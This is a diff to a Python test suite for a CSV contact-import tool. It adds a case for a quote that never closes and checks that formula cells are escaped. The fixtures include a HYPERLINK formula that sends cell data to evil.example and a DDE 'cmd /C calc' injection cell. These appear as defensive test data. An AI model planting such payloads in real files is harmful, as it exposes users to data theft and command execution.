@@ -243,6 +243,10 @@ def contact_files() -> list[tuple[str, bytes, int, str, dict[int, str]]]:
                                     "c4,Su,a4@example.com,"]).encode(), 0,
      "unterminated.csv: 3 imported, 0 updated, 0 unchanged, 1 rejected (see rejects.csv)\n",
      {3: 'row: a quote (") opened in this row is never closed; close it or remove it'}),
+    ("endless-quote.csv", (_contacts(["c1,Ali,a1@example.com,", 'c2,"Veli'])
+                           + ("y" * 99 + "\n") * 200_000).encode(), 2,
+     "izin: error: endless-quote.csv:3: a cell starting on this line is longer than 8388608 characters (a quote "
+     "never closed?); nothing after it was read, the rows before it were imported\n", {}),
     ("formula.csv", _contacts(['c1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",bad,',
                                "c2,+cmd|' /C calc'!A0,nope,", "c3,@SUM(1+1)*cmd,x@,", "c4,-2+3,y@,",
                                "c5,Ali,a5@example.com,"]).encode(), 0,
@@ -272,6 +276,7 @@ def _read_rejects(path: Path) -> list[list[str]]:
 def test_hostile_contacts_files(tmp_path, findings):
     files = contact_files()
     cases = [["init"]] + [_import_case(tmp_path, "contacts", name, content, own_ids=True) for name, content, *_ in files]
+    cases.append(["consent", "show", "endless-quote-c1"])
     results = run_cli(cases, tmp_path)
     assert_clean(results[0], 0)
     rejected = 0
@@ -287,6 +292,8 @@ def test_hostile_contacts_files(tmp_path, findings):
             assert table[0] == ["external_id", "first_name", "email", "phone", "line", "reason"]
             assert {int(r[4]): r[5] for r in table[1:]} == rejects, name
             rejected += len(table) - 1
+    # the rows before a quote that never closes are imported; reading stops at it
+    assert_clean(results[-1], 0)  # `consent show` exits 2 for a contact that does not exist
     # formulas come back as text, never as something a spreadsheet would run
     formula = _read_rejects(tmp_path / "formula" / "rejects.csv")
     assert [r[1] for r in formula[1:]] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
